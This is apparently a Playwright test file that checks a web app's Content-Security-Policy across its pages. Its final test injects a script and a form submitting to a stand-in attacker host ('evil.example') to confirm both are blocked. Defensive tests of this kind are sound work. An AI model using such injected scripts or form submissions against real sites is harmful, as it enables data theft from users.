import { expect, test } from '@playwright/test';

/** Guards that no page breaks the rules that it is served with: the browser would say so in its console. */
const query = new URLSearchParams({ cypher: 'MATCH (c:Concept) RETURN c LIMIT 3' }).toString();

for (const path of [
	'/',
	'/?at=concepts/rationale',
	'/papers',
	'/concepts',
	'/concepts/rationale',
	'/queries',
	'/queries/concepts-by-kind',
	`/query?${query}`,
	'/path?from=GRPO&to=rationale',
	'/ingest',
	'/help',
	'/search?q=reward',
	'/papers/none',
	'/none'
]) {
	test(`${path} keeps to its content policy`, async ({ page }) => {
		const complaints: string[] = [];
		page.on('console', (message) => {
			if (/Content.Security.Policy|Cross-Origin|MIME/i.test(message.text())) complaints.push(message.text());
		});
		page.on('pageerror', (error) => complaints.push(error.message));
		await page.goto(path);
		await page.waitForLoadState('networkidle');
		expect(complaints).toEqual([]);
		// The router has taken over: a page whose scripts were refused stays as the server wrote it.
		await page.locator('header a[href="/help"], nav a[href="/queries"]').first().click();
		await expect(page).toHaveURL(/\/(help|queries)$/);
		expect(complaints).toEqual([]);
	});
}

test('a script or a form that somebody brought into a page is stopped', async ({ page }) => {
	const complaints: string[] = [];
	page.on('console', (message) => complaints.push(message.text()));
	await page.goto('/help');
	const title = await page.evaluate(() => {
		const script = document.createElement('script');
		script.textContent = 'document.title = "ran"';
		document.body.append(script);
		return document.title;
	});
	expect(title).toBe('Help · Throughline');
	await page.evaluate(() => {
		const form = document.createElement('form');
		form.action = 'http://evil.example/';
		document.body.append(form);
		form.submit();
	});
	await expect.poll(() => complaints.join('\n')).toMatch(/script-src/);
	await expect.poll(() => complaints.join('\n')).toMatch(/form-action/);
});
